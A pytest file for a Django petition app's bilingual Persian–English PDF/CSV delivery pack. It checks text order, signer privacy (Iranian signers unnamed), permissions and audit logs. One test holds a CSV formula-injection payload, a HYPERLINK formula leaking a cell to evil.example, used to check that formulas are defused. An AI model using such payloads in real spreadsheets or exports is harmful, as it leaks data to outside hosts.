"""The delivery pack: a PDF in the petition's languages, shaped Persian included, with
the letter, the total, counts by country, the dates in both calendars and the names of the
signers who agreed to be shown; the same content as CSV; made by a task with progress, from the
admin. The PDF is read back with poppler's pdftotext, and its first pages are rendered to PNG
with pdftoppm for a person to look at."""

import csv
import itertools
import os
import re
import shutil
import subprocess
import unicodedata
from pathlib import Path

import pytest
from django.db import transaction
from django.urls import reverse
from django.utils import timezone

from lib.models import AuditEntry
from petitions.delivery import build, letter_paragraphs, request_pack
from petitions.demo.loader import load_seed_data
from petitions.models import DeliveryPack
from signatures.models import Signature
from tests.conftest import running_in_ci
from tests.factories import make_petition, make_signature, make_staff

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parent.parent
BIDI_CONTROLS = re.compile("[\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def screenshots() -> Path:
    configured = os.environ.get("TEST_OUTPUT_DIR", "").strip()
    folder = (Path(configured) if configured else ROOT / "test-output") / "screenshots"
    folder.mkdir(parents=True, exist_ok=True)
    return folder


def poppler(tool: str) -> str:
    path = shutil.which(tool)
    if path is None:
        if running_in_ci():
            pytest.fail(f"{tool} (poppler-utils) is missing; .ci/run installs it")
        pytest.skip(f"needs {tool}: apt-get install poppler-utils")
    return path


def pdf_text(path: Path) -> str:
    """The PDF's text, with bidi controls dropped and whitespace (line ends too) made single
    spaces, so that a phrase reads the same across a line break."""
    out = subprocess.run(
        [poppler("pdftotext"), "-enc", "UTF-8", str(path), "-"],
        check=True,
        capture_output=True,
        text=True,
    ).stdout
    return " ".join(BIDI_CONTROLS.sub("", unicodedata.normalize("NFC", out)).split())


@pytest.fixture
def pack_dir(settings, tmp_path):
    settings.DELIVERY_PACK_ROOT = tmp_path / "packs"
    return settings.DELIVERY_PACK_ROOT


@pytest.fixture
def demo_petition():
    data = load_seed_data()
    for key in ("signatures", "opened_at", "slug"):
        data.pop(key)
    petition = make_petition(slug="demo", **data)
    for n in range(12):
        make_signature(petition, name="سارا کریمی", country="IR", locality="تهران")
        make_signature(petition, name=f"Jürgen Müller-{n}", country="DE", locality="Berlin")
    make_signature(petition, name="Mehdi Rahimi", country="IR", locality="Shiraz")
    make_signature(petition, name="Anna Lind", country="IS", locality="Reykjavik")
    make_signature(petition, name="Hidden Person", country="DE", show_name=False)
    make_signature(petition, name="Not Yet", country="DE", status=Signature.Status.PENDING)
    return petition


@pytest.fixture
def made(demo_petition, pack_dir):
    pack = build(DeliveryPack.objects.create(petition=demo_petition))
    return pack, pdf_text(Path(pack.pdf.path))


def letters(text: str) -> str:
    """Only the letters, in order: where poppler puts a space or a bidi mark beside a number
    or a comma in right-to-left text differs from the source, the letters do not."""
    return "".join(ch for ch in text if unicodedata.category(ch).startswith("L"))


def ligatures_folded(text: str) -> str:
    """poppler reads a ligature glyph's letters (lam-alef, the word Allah) back reversed in some
    right-to-left runs and not in others; everything else it reads in logical order. Both sides
    of a comparison are folded the same way."""
    return text.replace("هللا", "الله").replace("لا", "ال")


def test_pdf_has_the_persian_letter_in_logical_order(made, demo_petition):
    _pack, text = made
    found = letters(ligatures_folded(text))
    paragraphs = letter_paragraphs(demo_petition.letter_fa)
    assert len(paragraphs) >= 5
    for paragraph in paragraphs:
        assert letters(ligatures_folded(paragraph)) in found
    # Words without a ligature read back exactly, spaces and all.
    assert "ماسک عزیز" in text
    assert "سیستماتیک مردم ایران" in text


def test_pdf_has_the_english_letter_and_both_titles(made, demo_petition):
    _pack, text = made
    assert letter_paragraphs(demo_petition.letter_en)[1][:80] in text
    assert demo_petition.title_en in text
    assert letters(ligatures_folded(demo_petition.title_fa)) in letters(ligatures_folded(text))


def test_pdf_states_the_right_totals_in_both_languages(made):
    pack, text = made
    # 12 + 12 + 1 + 1 + 1 counted; the pending signature is not.
    assert pack.signatures == 27
    assert "27 people signed this petition." in text
    assert "۲۷" in text
    assert re.search(r"Iran 13 48%", text)
    assert re.search(r"Germany 13 48%", text)
    # Iceland's one signer is counted under other countries, never by name of country.
    assert "Iceland" not in text
    assert re.search(r"Other countries 1 4%", text)


def test_pdf_gives_both_calendars(made, demo_petition):
    _pack, text = made
    assert "Solar Hijri calendar" in text
    assert re.search(r"\d{1,2} [A-Z][a-z]+ 20\d\d", text)
    months = "فروردین|اردیبهشت|خرداد|تیر|مرداد|شهریور|مهر|آبان|آذر|دی|بهمن|اسفند"
    assert re.search(f"[۰-۹]{{1,2}} ?({months}) ?۱۴[۰-۹]{{2}}", text)


def test_pdf_names_signers_by_first_name_and_initial_and_none_under_iran(made):
    pack, text = made
    folded = unicodedata.normalize("NFKC", text)
    names = text.split("for their safety.")[1]
    assert "Jürgen M." in names and "Müller" not in text
    assert "Anna L." in names and "Lind" not in text
    assert "Hidden Person" not in text and "Not Yet" not in text
    # Signers in Iran are counted (Iran 13 on the front pages), never named: the pack may be
    # handed to the very authorities they risk being named to.
    assert "Mehdi" not in text and "Rahimi" not in text
    assert "سارا" not in folded and "اراس" not in folded and "کریمی" not in folded
    assert "Iran" not in names
    assert "تهران" not in folded and "Berlin" not in text and "Shiraz" not in text
    assert pack.names_total == pack.names_done == 13


def test_csv_has_the_same_content(made):
    pack, _text = made
    with Path(pack.csv.path).open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["section", "country_code", "country", "value"]
    by_section = {}
    for section, code, country, value in rows[1:]:
        by_section.setdefault(section, []).append((code, country, value))
    assert by_section["total"] == [("", "", "27")]
    assert ("IR", "Iran", "13") in by_section["country"]
    assert ("other", "Other countries", "1") in by_section["country"]
    names = [value for _code, _country, value in by_section["name"]]
    assert len(names) == 13
    assert "Jürgen M." in names and "Anna L." in names
    assert not any("Müller" in name or "Lind" in name for name in names)
    assert not any(code == "IR" for code, _country, _value in by_section["name"])
    assert not any("سارا" in name or "Mehdi" in name for name in names)
    assert "Hidden Person" not in names
    assert by_section["letter_fa"][0][2].startswith("آقای ایلان ماسک عزیز")


def test_first_two_pages_render_to_png(made):
    pack, _text = made
    prefix = screenshots() / "delivery-pack-page"
    subprocess.run(
        [poppler("pdftoppm"), "-r", "80", "-f", "1", "-l", "3", "-png", pack.pdf.path, str(prefix)],
        check=True,
    )
    pages = sorted(prefix.parent.glob("delivery-pack-page-*.png"))
    assert len(pages) >= 2
    assert all(page.stat().st_size > 10_000 for page in pages)


def test_admin_action_makes_the_pack_off_the_request_path_with_progress(
    client, demo_petition, pack_dir, django_capture_on_commit_callbacks
):
    staff = make_staff()
    client.force_login(staff)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("admin:petitions_petition_changelist"),
            {"action": "make_delivery_pack", "_selected_action": [demo_petition.pk]},
        )
    assert response.status_code == 302
    assert response["Location"] == reverse("admin:petitions_deliverypack_changelist")
    pack = DeliveryPack.objects.get(petition=demo_petition)
    # The tests' task backend runs the task at once; in production a worker does.
    assert pack.status == DeliveryPack.Status.DONE and pack.percent == 100
    listing = client.get(reverse("admin:petitions_deliverypack_changelist")).content.decode()
    assert '<progress max="100" value="100">' in listing
    assert "13 of 13 names" in listing

    download = reverse("admin:petitions_deliverypack_download", args=[pack.pk, "pdf"])
    response = client.get(download)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert "no-store" in response["Cache-Control"]
    assert b"".join(response.streaming_content).startswith(b"%PDF")
    entries = AuditEntry.objects.about(demo_petition).order_by("pk")
    assert [(e.action, e.detail["pack"]) for e in entries] == [
        ("pack.made", pack.pk),
        ("pack.downloaded", pack.pk),
    ]


def test_only_staff_who_may_export_see_or_download_packs(client, demo_petition, pack_dir):
    pack = build(DeliveryPack.objects.create(petition=demo_petition))
    client.force_login(make_staff(username="moderator", superuser=False))
    download = reverse("admin:petitions_deliverypack_download", args=[pack.pk, "pdf"])
    assert client.get(download).status_code == 403
    assert client.get(reverse("admin:petitions_deliverypack_changelist")).status_code == 403


def test_a_failed_pack_says_so(
    demo_petition, pack_dir, monkeypatch, django_capture_on_commit_callbacks
):
    def broken(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr("petitions.delivery.build", broken)
    with django_capture_on_commit_callbacks(execute=True):
        pack = request_pack(demo_petition, by=None)
    pack.refresh_from_db()
    assert pack.status == DeliveryPack.Status.FAILED
    assert "disk full" in pack.error


def test_pack_of_a_petition_without_signatures(pack_dir):
    petition = make_petition(opened_at=timezone.now())
    pack = build(DeliveryPack.objects.create(petition=petition))
    text = pdf_text(Path(pack.pdf.path))
    assert "0 people signed this petition." in text
    assert pack.names_done == 0


def test_pack_list_reloads_itself_while_a_pack_is_being_made(client, demo_petition, pack_dir):
    client.force_login(make_staff())
    pack = DeliveryPack.objects.create(petition=demo_petition)
    url = reverse("admin:petitions_deliverypack_changelist")
    listing = client.get(url).content.decode()
    assert '<meta http-equiv="refresh" content="5">' in listing
    assert '<progress max="100" value="0">' in listing
    build(pack)
    assert 'http-equiv="refresh"' not in client.get(url).content.decode()


def test_pack_csv_defuses_formulas_in_every_cell(pack_dir):
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"x")'
    petition = make_petition(title_en=formula, letter_en="+SUM(1,2)", opened_at=timezone.now())
    make_signature(petition, name="@Sara Karimi", country="DE")
    pack = build(DeliveryPack.objects.create(petition=petition))
    with Path(pack.csv.path).open(encoding="utf-8-sig", newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert "'" + formula in cells
    assert "'+SUM(1,2)" in cells
    assert not [cell for cell in cells if cell[:1] in set("=+-@\t\r")]


def test_a_policy_change_after_signing_never_names_more_in_the_pack(pack_dir):
    petition = make_petition(signer_list="none", opened_at=timezone.now())
    make_signature(petition, name="Mina Rad", country="DE", show_name=True)
    petition.signer_list = "full"
    petition.save()
    make_signature(petition, name="Tom Smith", country="DE", show_name=True)
    pack = build(DeliveryPack.objects.create(petition=petition))
    with Path(pack.csv.path).open(encoding="utf-8-sig", newline="") as f:
        names = [row[3] for row in csv.reader(f) if row[0] == "name"]
    assert names == ["Tom S."]


def persian_only_petition(**overrides):
    fields = {
        "original_language": "fa",
        "starter_name": "مریم کاظمی",
        "addressed_to_fa": "وزیر فرهنگ",
        "title_fa": "هنرمندان زندانی را آزاد کنید",
        "summary_fa": "هنر جرم نیست.",
        "letter_fa": "هنرمندان زندانی را فوراً و بی قید و شرط آزاد کنید. هنر جرم نیست.",
        "addressed_to_en": "",
        "title_en": "",
        "summary_en": "",
        "letter_en": "",
        "opened_at": timezone.now(),
    }
    fields.update(overrides)
    return make_petition(**fields)


def test_a_persian_only_petitions_pack_is_in_persian_only(pack_dir):
    petition = persian_only_petition()
    make_signature(petition, name="مریم کاظمی", country="DE")
    pack = build(DeliveryPack.objects.create(petition=petition))
    text = pdf_text(Path(pack.pdf.path))
    assert "people signed this petition" not in text
    assert "A petition to" not in text and "The letter" not in text
    assert "هنر جرم نیست." in text
    with Path(pack.csv.path).open(encoding="utf-8-sig", newline="") as f:
        sections = {row[0] for row in csv.reader(f)}
    assert {"title_fa", "letter_fa"} <= sections
    assert not sections & {"title_en", "letter_en"}


def test_the_persian_part_names_the_starter_in_persian_script(pack_dir):
    petition = make_petition(starter_name="Emily Schrader", starter_name_fa="امیلی شریدر")
    pack = build(DeliveryPack.objects.create(petition=petition))
    text = pdf_text(Path(pack.pdf.path))
    assert "started by Emily Schrader" in text
    assert "به همت امیلی شریدر" in text


def test_persian_sentences_in_an_english_part_and_latin_in_a_persian_one_read_in_order(pack_dir):
    petition = make_petition(
        starter_name="مریم کاظمی",
        addressed_to_en="وزیر فرهنگ",
        letter_en="Dear Minister,\n\nهنرمندان زندانی را آزاد کنید.\n\nThank you.",
        letter_fa="ما از شرکت Meta و آقای Mark Zuckerberg می‌خواهیم پاسخ دهند.",
    )
    pack = build(DeliveryPack.objects.create(petition=petition))
    text = pdf_text(Path(pack.pdf.path))
    assert "A petition to وزیر فرهنگ, started by مریم کاظمی" in text
    # poppler places a space at a change of direction on either side of it; the words and
    # their order are what a reader needs.
    assert "Dear Minister, هنرمندان زندانی را آزاد کنید. Thank you." in text
    assert letters("ما از شرکت Meta و آقای Mark Zuckerberg می‌خواهیم پاسخ دهند.") in letters(text)


def test_latin_and_persian_signers_share_lines_in_the_order_they_signed(pack_dir):
    petition = make_petition(opened_at=timezone.now())
    signers = []
    for n in range(20):
        signers += [f"Anna{n} Lind", f"مریم{n} کاظمی"]
    for name in signers:
        make_signature(petition, name=name, country="DE")
    pack = build(DeliveryPack.objects.create(petition=petition))
    out = subprocess.run(
        [poppler("pdftotext"), "-enc", "UTF-8", pack.pdf.path, "-"],
        check=True,
        capture_output=True,
        text=True,
    ).stdout
    names = BIDI_CONTROLS.sub("", out.split("for their safety.")[1])
    lines = [line for line in names.splitlines() if "Lind" in line or "کاظمی" in line]
    # Forty short names fit a handful of lines, not one a line as script changes.
    assert len(lines) <= 8
    shown = [name for n in range(20) for name in (f"Anna{n} L.", f"مریم{n} ک.")]
    assert [name for name in shown if name.startswith("Anna")] == re.findall(r"Anna\d+ L\.", names)
    flat = " ".join(names.split())
    for first, second in itertools.pairwise(shown):
        assert flat.index(first) < flat.index(second)


def test_an_emoji_the_font_cannot_draw_is_marked_not_dropped(pack_dir):
    petition = make_petition(title_en="Save the park 🌳 now", title_fa="پارک 🌳 را نجات دهید")
    pack = build(DeliveryPack.objects.create(petition=petition))
    text = pdf_text(Path(pack.pdf.path))
    assert "Save the park \ufffd now" in text
    assert "\ufffd" in text.split("Save the park", 2)[-1]


def test_a_name_longer_than_a_line_wraps_and_the_next_name_starts_at_the_margin(pack_dir):
    petition = make_petition(opened_at=timezone.now())
    make_signature(petition, name="B" * 100, country="DE")
    make_signature(petition, name="مریم کاظمی", country="DE")
    pack = build(DeliveryPack.objects.create(petition=petition))
    out = subprocess.run(
        [poppler("pdftotext"), "-layout", "-enc", "UTF-8", pack.pdf.path, "-"],
        check=True,
        capture_output=True,
        text=True,
    ).stdout
    lines = out.split("for their safety.")[1].splitlines()
    bs = [line for line in lines if "BBBB" in line]
    after = next(line for line in lines if "مریم" in line)
    assert len(bs) == 2
    # An English pack starts every line at the left margin, as the long name's lines do.
    assert len(after) - len(after.lstrip()) == len(bs[0]) - len(bs[0].lstrip())


def test_a_pack_made_during_the_request_is_announced_as_ready(client, pack_dir, monkeypatch):
    # Under make run no transaction surrounds the action, so the task runs before it returns.
    monkeypatch.setattr(transaction, "on_commit", lambda callback, **kwargs: callback())
    petition = make_petition()
    make_signature(petition)
    client.force_login(make_staff())
    response = client.post(
        reverse("admin:petitions_petition_changelist"),
        {"action": "make_delivery_pack", "_selected_action": [petition.pk]},
        follow=True,
    )
    said = [str(message) for message in response.context["messages"]]
    assert DeliveryPack.objects.get(petition=petition).status == DeliveryPack.Status.DONE
    assert said == ["The delivery pack is ready: download it below."]
